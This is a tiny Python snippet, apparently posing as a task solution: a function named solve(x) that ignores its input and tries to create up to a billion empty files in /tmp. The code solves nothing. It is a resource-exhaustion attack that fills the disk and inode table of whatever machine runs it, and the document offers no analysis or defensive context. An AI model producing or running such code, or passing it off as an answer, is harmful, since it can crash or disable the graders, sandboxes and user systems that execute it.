def solve(x):
    for number in range(10**9):
        open("/tmp/%d" % number, "w").close()
